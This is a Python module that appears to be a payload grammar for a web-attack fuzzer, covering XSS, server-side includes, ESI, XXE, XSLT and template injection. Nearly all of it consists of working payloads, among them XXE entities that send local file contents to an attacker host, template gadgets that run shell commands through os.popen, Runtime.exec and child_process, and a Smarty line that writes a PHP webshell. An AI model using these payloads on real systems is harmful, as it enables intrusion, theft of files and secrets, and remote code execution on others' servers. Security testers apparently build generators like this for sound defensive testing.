"""Attacks on browsers and on parsers of markup: XSS, SSI, XXE, templates."""

RULES = r"""
event = onerror onload onclick onmouseover onfocus onmouseenter ontoggle onanimationstart onanimationend ontransitionend onpointerover onpointerenter onbeforeinput oninput onchange onwheel oncut onpaste onscroll onblur onkeydown onstart onbegin onloadstart onhashchange onpageshow onresize oncanplay onplay onunhandledrejection onfinish onbounce ondrag oncontextmenu onsearch onformdata onauxclick onsubmit onbeforetoggle oncontentvisibilityautostatechange
tag = img svg body input video audio details marquee iframe object select textarea keygen button a div p form math style table x xss custom-tag b isindex frameset embed link base meta bgsound source track picture dialog template
close = > > > > /> // < «sp»> //> >«w»
gap = «sp» «sp» «sp» / «tab» «nl» %0a %0d %09 %0c /**/ «sp»/ /«w»/ «sp»«sp»
scheme = javascript: javascript: JaVaScRiPt: java«tab»script: java«nl»script: javascript&colon; &#106;avascript: vbscript: jav&#x0A;ascript: javascript&#58; data:text/html, data:text/html;base64, «bell»javascript: feed:javascript: livescript:
out = "> '> "/> ' " </title> </textarea> </script> --> ]]> "/><br/> ` </style> </noscript> "}'> *//</stYle/</titLe/</teXtarEa/</scRipt/--!> «w» «w»"> «w»'>
element:
  <script>«js»</script>
  <script>«js»</script>
  <SCRIPT>«js»</SCRIPT>
  <ScRiPt>«js»</sCrIpT>
  <script >«js»</script >
  <script>«js»
  <script>«js»<!--
  <script>«js»//</script>
  <script/«w»>«js»</script>
  <script«gap»src=//«host»></script>
  <script src=http://«host»/«w».js></script>
  <script src="https://«host»/«w».js"></script>
  <script src=data:text/javascript,«js»></script>
  <script type="text/javascript">«js»</script>
  <script x>«js»</script y>
  <scr<script>ipt>«js»</scr</script>ipt>
  <<script>«js»//<</script>
  <script>«w»=document.createElement('script');«w».src='//«host»';document.body.appendChild(«w»)</script>
  <script>var «w»='«w»';«js»</script>
  <script>/*«w»*/«js»</script>
  <img«gap»src=x«gap»onerror=«js»«close»
  <img src=x onerror="«js»"«close»
  <img src='x' onerror='«js»'«close»
  <img src=1 href=1 onerror="«js»"></img>
  <img/src=`x`onerror=«js»«close»
  <img src="«scheme»«js»"«close»
  <image src=x onerror=«js»«close»
  <img src=x:«w» «event»=«js»«close»
  <IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;«js»>
  <svg«gap»onload=«js»«close»
  <svg onload="«js»"«close»
  <svg/onload='«js»'«close»
  <svg><script>«js»</script></svg>
  <svg><script>«js|js»&lpar;1&rpar;</script>
  <svg><animate onbegin=«js» attributeName=x dur=1s>
  <svg><a xlink:href="«scheme»«js»"><text x=20 y=20>«w»</text></a>
  <svg><set «event»=«js»>
  <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='«js»'/></svg>#x">
  <«tag»«gap»«event»=«js»«close»
  <«tag» «event»="«js»"«close»
  <«tag» «event»='«js»'«close»
  <«tag»«gap»«event»=«js»«close»«w»</«tag»>
  <«tag» id=x tabindex=1 «event»=«js»></«tag»>
  <«tag» style="animation-name:x" «event»="«js»"></«tag»>
  <body onload=«js»«close»
  <body«gap»«event»=«js»«close»
  <input autofocus onfocus=«js»«close»
  <input type=image src=x onerror=«js»>
  <select autofocus onfocus=«js»>
  <video><source onerror="«js»"></video>
  <video src=x onerror=«js»«close»
  <audio src=x onerror=«js»«close»
  <details open ontoggle=«js»«close»
  <marquee onstart=«js»«close»
  <iframe src="«scheme»«js»"«close»
  <iframe«gap»src=«scheme»«js»></iframe>
  <iframe srcdoc="<script>«js»</script>"></iframe>
  <iframe srcdoc='&lt;script&gt;«js»&lt;/script&gt;'>
  <iframe onload=«js»«close»
  <iframe src=//«host»>
  <object data="«scheme»«js»"«close»
  <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
  <embed src="«scheme»«js»"«close»
  <a href="«scheme»«js»">«w»</a>
  <a href=«scheme»«js»>«w»
  <a href="«w»" «event»="«js»">«w»</a>
  <form action="«scheme»«js»"><input type=submit>
  <form><button formaction=«scheme»«js»>«w»
  <math><mtext></p><style><!--</style><img src onerror=«js»>
  <math href="«scheme»«js»">«w»</math>
  <meta http-equiv="refresh" content="0;url=«scheme»«js»">
  <link rel=stylesheet href="«scheme»«js»">
  <base href="«scheme»//«host»/">
  <style>@import'http://«host»/«w».css';</style>
  <style>*{background:url(«scheme»«js»)}</style>
  <div style="width: expression(«js»);">
  <div style="background-image: url(«scheme»«js»)">
  <table background="«scheme»«js»">
  <x contenteditable onblur=«js»>«w»
  <noscript><p title="</noscript><img src=x onerror=«js»>">
  <!--<img src="--><img src=x onerror=«js»//">
  <![CDATA[<script>«js»</script>]]>
  <xml onreadystatechange=«js»>
  <template><script>«js»</script></template>
  <dialog open onclose=«js»><form method=dialog><button>«w»
  <plaintext><script>«js»
  <isindex type=image src=1 onerror=«js»>
  <h1 «event»="«js»">«w»</h1>
  <img src=x onerror=&#97;&#108;&#101;&#114;&#116;(«n»)>
  <img src=x onerror=\u0061lert(«n»)>
breakout = "> '> "/> "> </title> </textarea> </script> --> "}'> «w»"> «w»'>
injected:
  <meta http-equiv=set-cookie content="test«w»=«n»">
  <META HTTP-EQUIV="Set-Cookie" Content="«w»=«w»">
  <meta http-equiv="refresh" content="0;url=http://«host»/">
  <h1>«w»</h1>
  <a href=http://«host»>«w»</a>
  <a href="//«host»/«w»">«w»
  <img src=http://«host»/«w».gif>
  <img src="http://«host»/«w».php?«w»=«w»">
  <iframe src=http://«host»/></iframe>
  <iframe src="//«host»/«w».html" width=0 height=0></iframe>
  <form action=http://«host»/«w»><input name=password>
  <marquee>«w»</marquee>
  <center><h1>«w»</h1></center>
  <font size=7 color=red>«w»
  <body background="//«host»/x.png">
  <object data=//«host»/«w».swf></object>
  <embed src="//«host»/«w».swf" allowscriptaccess=always>
  <link rel=stylesheet href=//«host»/x.css>
  <base href=//«host»/>
  <style>body{display:none}</style>
  <plaintext>
  <isindex action=//«host»>
  <!--«w»
  <textarea>
  <big><big><big>«w»
xss:
  «breakout»«injected»
  «breakout»«injected»
  «breakout»«injected»
  <meta http-equiv=set-cookie content="test«w»=«n»">
  <meta http-equiv="refresh" content="0;url=http://«host»/">
  <iframe src=http://«host»/></iframe>
  «element»
  «element»
  «out»«element»
  «out»«element»
  «w»«element»
  «w»<br>«element»
  <b>«element»</b>
  «scheme»«js»
  «scheme»//%0a«js»
  «scheme»«js»//http://«w».«tld»
  «scheme»/*«w»*/«js»
  data:text/html,<script>«js»</script>
  data:text/html;base64,PHNjcmlwdD5hbGVydCgn«alnum(8)»
  data:image/svg+xml,<svg onload=«js»>
  " «event»="«js»
  " «event»=«js» x="
  ' «event»='«js»
  ' «event»=«js» «w»='
  " autofocus «event»=«js» "
  "«event»="«js»"
  ` «event»=«js» `
  "/**/«event»=«js»//
  '-«js»-'
  "-«js»-"
  '+«js»+'
  "+«js»+"
  ';«js»;//
  ";«js»;//
  \';«js»;//
  \";«js»//
  '*«js»*'
  '^«js»^'
  });«js»;({
  ');«js»;//
  ")));«js»//
  </script><script>«js»</script>
  </script><svg onload=«js»>
  '};«js»;var a={'
  ${«js»}
  `${«js»}`
  {{constructor.constructor('«js»')()}}
  {{$on.constructor('«js»')()}}
  {{$eval.constructor('«js»')()}}
  {{_c.constructor('«js»')()}}
  {{'a'.constructor.prototype.charAt=[].join;$eval('x=«js»')}}
  <div ng-app ng-csp>{{$eval.constructor('«js»')()}}</div>
  [«w»](«scheme»«js»)
  ![«w»](x"onerror="«js»)
  [a]: («scheme»prompt(«n»))
  eval('«js»')
  document.write(«js»)
  «js»;«js»
  ¼script¾«js»¼/script¾
  %u003cscript%u003e«js»%u003c/script%u003e
  \x3cscript\x3e«js»\x3c/script\x3e
  \u003cimg src=x onerror=«js»\u003e
  &lt;script&gt;«js»&lt;/script&gt;
  &#60;img src=x onerror=«js»&#62;
  [url=«scheme»«js»]«w»[/url]
  [img]http://«host»/x" onerror="«js»[/img]
  @import '«scheme»«js»';
  x:expression(«js»)
  (()=>{«js»})()
  [][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]
  jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */«event»=«js» )//
ssi:
  <!--#exec cmd="«cmd»" -->
  <!--#exec cmd="«cmd»"-->
  <!--#exec cgi="/cgi-bin/«w».cgi" -->
  <!--#include virtual="/«file»" -->
  <!--#include virtual="«w».cgi" -->
  <!--#include file="«file»"-->
  <!--#include file="../../«file»" -->
  <!--#echo var="DATE_LOCAL" -->
  <!--#echo var="DOCUMENT_NAME" -->
  <!--#echo var="REMOTE_ADDR" --><!--#printenv -->
  <!--#printenv -->
  <!--#printenv-->
  <!--#config errmsg="«w»" -->
  <!--#set var="«w»" value="«w»" -->
  <!--#fsize file="/«file»" -->
  <!--#flastmod virtual="«w».html" -->
  <!--#if expr="«n»" -->«w»<!--#endif -->
  "><!--#exec cmd="«cmd»"-->
  «w»<!--#exec cmd='«cmd»' -->
  <pre><!--#exec cmd="«cmd»" --></pre>
  <!--# include virtual="/«w»" wait="yes" -->
  <esi:include src="http://«host»/«w»"/>
  <esi:include src="http://«inner»/" stylesheet="http://«host»/«w».xsl"></esi:include>
  <esi:inline name="/«w».html" fetchable="yes"><script>«js»</script></esi:inline>
  <!--esi $(HTTP_COOKIE) -->
  x=<esi:assign name="var1" value="'cript'"/><s<esi:vars name="$(var1)"/>>«js»</s<esi:vars name="$(var1)"/>>
target:
  file:///«file»
  file:///«file»
  file:///c:/«winfile»
  http://«host»/«w».dtd
  http://«host»/
  http://«inner»/
  http://«inner»:«port»/«w»
  php://filter/convert.base64-encode/resource=/«file»
  php://filter/read=convert.base64-encode/resource=«w».php
  expect://«w»
  expect://id
  ftp://«host»/«w»
  gopher://«inner»:6379/_info
  jar:http://«host»/«w».zip!/«w»
  netdoc:///«file»
  \\«ip»\«w»\x
ent = x xxe «w» «w» «lower(2-4)» test file ent
xmlhead:
  <?xml version="1.0"?>
  <?xml version="1.0" encoding="UTF-8"?>
  <?xml version="1.0" encoding="ISO-8859-1"?>«nl»
  <?xml version='1.0' standalone='no'?>
  <?xml version="1.0" encoding="UTF-8" standalone="yes"?>«nl»
xxe:
  «xmlhead»<!DOCTYPE «w:r» [<!ENTITY «ent:e» SYSTEM "«target»">]><«w:r»>&«ent:e»;</«w:r»>
  «xmlhead»<!DOCTYPE «w:r» [«nl»<!ELEMENT «w:r» ANY >«nl»<!ENTITY «ent:e» SYSTEM "«target»" >]>«nl»<«w:r»><«w:t»>&«ent:e»;</«w:t»></«w:r»>
  «xmlhead»<!DOCTYPE «w:r» [<!ENTITY % «ent:e» SYSTEM "«target»"> %«ent:e»;]><«w:r»/>
  «xmlhead»<!DOCTYPE «w:r» PUBLIC "-//«w»//«w»" "«target»"><«w:r»></«w:r»>
  «xmlhead»<!DOCTYPE «w:r» SYSTEM "«target»"><«w:r»>«w»</«w:r»>
  <!DOCTYPE «w:r» [<!ENTITY «ent:e» SYSTEM '«target»'>]><«w:r»>&«ent:e»;</«w:r»>
  <!DOCTYPE «w:r» [<!ENTITY «ent:e» PUBLIC "«w»" "«target»">]><«w»>&«ent:e»;</«w»>
  <!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY % «ent:e» SYSTEM "«target»">%«ent:e»;]>
  <!ENTITY «ent» SYSTEM "«target»">
  <!ENTITY % «ent:e» SYSTEM "«target»"> %«ent:e»;
  <!ENTITY % all "<!ENTITY send SYSTEM 'http://«host»/?%«ent:e»;'>"> %all;
  <!ENTITY % file SYSTEM "«target»"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://«host»/?x=%file;'>">%eval;%exfil;
  «xmlhead»<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>
  <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="«target»"/>
  <foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="«target»"/></foo>
  «xmlhead»<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "«target»"> %dtd;]><xxx/>]]></soapenv:Body></soapenv:Envelope>
  «xmlhead»<!DOCTYPE svg [<!ENTITY «ent:e» SYSTEM "«target»">]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&«ent:e»;</text></svg>
  «xmlhead»<?xml-stylesheet type="text/xsl" href="«target»"?><«w:r»/>
  «xmlhead»<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('«target»')"/></xsl:template></xsl:stylesheet>
  <!DOCTYPE «w» [
  <!DOCTYPE «w:r» [«nl»<!ELEMENT «w:r» (#PCDATA)>«nl»<!ENTITY «ent» "«w»">
  <!ENTITY % «ent» SYSTEM "«target»">
  <!ENTITY «ent» "«w»">
  ]><«w:r»>&«ent»;</«w:r»>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:«xslns»>
  <xsl:stylesheet version="«n».0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:«xslns»><xsl:template match="/"><xsl:value-of select="«xslcall»"/></xsl:template></xsl:stylesheet>
  <xsl:template match="/«w»"><xsl:value-of select="«xslcall»"/></xsl:template>
  <xsl:value-of select="«xslcall»"/>
  <xsl:variable name="«w»" select="«xslcall»"/>
  <xsl:for-each select="«w»"><xsl:value-of select="«w»"/></xsl:for-each>
  <xsl:«xslload» href="«target»"/>
xslload = include import
xslns:
  php="http://php.net/xsl"
  rt="http://xml.apache.org/xalan/java/java.lang.Runtime"
  user="urn:«w»-scripts"
  exploit="http://exslt.org/common"
xslcall:
  system-property('xsl:vendor')
  document('«target»')
  document('«target»')/«w»
  php:function('«w»','«w»')
  php:function('file_get_contents','«target»')
  rt:exec(rt:getRuntime(),'«cmd»')
  user:«w»('«cmd»')
  unparsed-text('«target»')
expr = 7*7 «n»*«n» 7*'7' «digit(2-3)»*«digit(2-3)» «n»+«n» config self request settings.SECRET_KEY app.request ''.__class__ ().__class__ [].class «n»-«n» foobar.__class__ self._env dump(app) request.environ config.items() _self.env lipsum.__globals__ cycler.__init__.__globals__ g.pop.__globals__ url_for.__globals__ get_flashed_messages.__globals__
el:
  T(java.lang.Runtime).getRuntime().exec('«cmd»')
  T(java.lang.System).getenv()
  ''.getClass().forName('java.lang.Runtime').getRuntime().exec('«cmd»')
  new java.lang.ProcessBuilder('«cmd»').start()
  new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("«cmd»").getInputStream()).next()
  "".class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("«cmd»")
  @java.lang.Runtime@getRuntime().exec('«cmd»')
  class.getResource("").getPath()
  applicationScope
  request.getSession().getServletContext()
ssti:
  {{«expr»}}
  {{«expr»}}
  {{ «expr» }}
  ${«expr»}
  ${«expr»}
  ${{«expr»}}
  #{«expr»}
  *{«expr»}
  @(«expr»)
  @{«expr»}
  ~{«expr»}
  <%= «expr» %>
  <%=«expr»%>
  {%= «expr» %}
  {«expr»}
  {{={@}=}}{{«expr»}}
  [[${«expr»}]]
  $!{«expr»}
  {{«expr»}}${«expr»}<%= «expr» %>
  ${{<%[%'"}}%\
  «w»{{«n»*«n»}}«w»
  ${«el»}
  #{«el»}
  *{«el»}
  %{«el»}
  __${«el»}__::.x
  __${«expr»}__::«w».x
  {{config.items()}}
  {{ self }}{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
  {{''.__class__.mro()[«n»].__subclasses__()}}
  {{''.__class__.__mro__[2].__subclasses__()[«digit(2-3)»]}}
  {{''.__class__.__bases__[0].__subclasses__()[«digit(2-3)»]('«cmd»',shell=True,stdout=-1).communicate()}}
  {{''['__class__']['__base__']['__subclasses__']()}}
  {{request|attr(["_"*2,"class","_"*2]|join)}}
  {{request.application.__globals__.__builtins__.__import__('os').popen('«cmd»').read()}}
  {{self.__init__.__globals__.__builtins__.__import__('os').popen('«cmd»').read()}}
  {{cycler.__init__.__globals__.os.popen('«cmd»').read()}}
  {{lipsum.__globals__['os'].popen('«cmd»').read()}}
  {{config.__class__.from_envvar.__globals__['os'].popen('«cmd»').read()}}
  {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{c}}{% endif %}{% endfor %}
  {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
  {% if «n» == «n» %}«w»{% endif %}
  {%25 set x = «n» %25}{{x}}
  {% import os %}{{os.popen('«cmd»').read()}}
  {% debug %}
  {{['«cmd»']|filter('system')}}
  {{['«cmd»']|map('system')|join}}
  {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("«cmd»")}}
  {{'/«file»'|file_excerpt(1,30)}}
  {{app.request.server.all|join(',')}}
  {php}echo `«cmd»`;{/php}
  {system('«cmd»')}
  {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['cmd']); ?>",self::clearConfig())}
  {$smarty.version}
  {if phpinfo()}{/if}
  {fetch file="/«file»"}
  <#assign ex="freemarker.template.utility.Execute"?new()>${ex("«cmd»")}
  ${"freemarker.template.utility.Execute"?new()("«cmd»")}
  [#assign ex='freemarker.template.utility.Execute'?new()]${ex('«cmd»')}
  <#assign classloader=article.class.protectionDomain.classLoader>
  ${product.getClass().getProtectionDomain().getCodeSource().getLocation()}
  #set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))
  #set($e="e");$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("«cmd»")
  $class.inspect("java.lang.Runtime").type.getRuntime().exec("«cmd»")
  #set($x=$e.getClass())
  <% import os %>${os.popen("«cmd»").read()}
  <%import os;x=os.popen('«cmd»').read()%>${x}
  ${self.module.cache.util.os.system("«cmd»")}
  <%= system('«cmd»') %>
  <%= `«cmd»` %>
  <%= File.open('/«file»').read %>
  <%= Dir.entries('/') %>
  <%= IO.popen('«cmd»').readlines() %>
  <%- global.process.mainModule.require('child_process').execSync('«cmd»') %>
  #{root.process.mainModule.require('child_process').spawnSync('«cmd»').stdout}
  #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('«cmd»')}()}
  {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{/with}}{{/with}}{{/with}}
  {{range.constructor("return global.process.mainModule.require('child_process').execSync('«cmd»')")()}}
  {{x=Object}}{{w=a=new x}}{{w.type="pipe"}}
  @(«n»+«n»)
  @{System.Diagnostics.Process.Start("cmd.exe","/c «cmd»");}
  @System.Diagnostics.Process.Start("«cmd»")
  {{ .System "«cmd»" }}
  {{.}}{{printf "%s" "«w»"}}
  {{html "«w»"}}{{define "T1"}}«js»{{end}}
  ${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«cmd»').getInputStream())}
  ${pageContext.request.getSession().setAttribute("a",pageContext.request.getClass().forName("java.lang.Runtime"))}
  ${#context['xwork.MethodAccessor.denyMethodExecution']}
  ${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("«cmd»").getInputStream(),"utf-8"))}
  ${facesContext.getExternalContext().getResponse()}
  {{= «n»*«n» }}
  {{'«w»'.toUpperCase()}}
  a{*«w»*}b
  ${"z".join("ab")}
  %{«n»*«n»}
"""
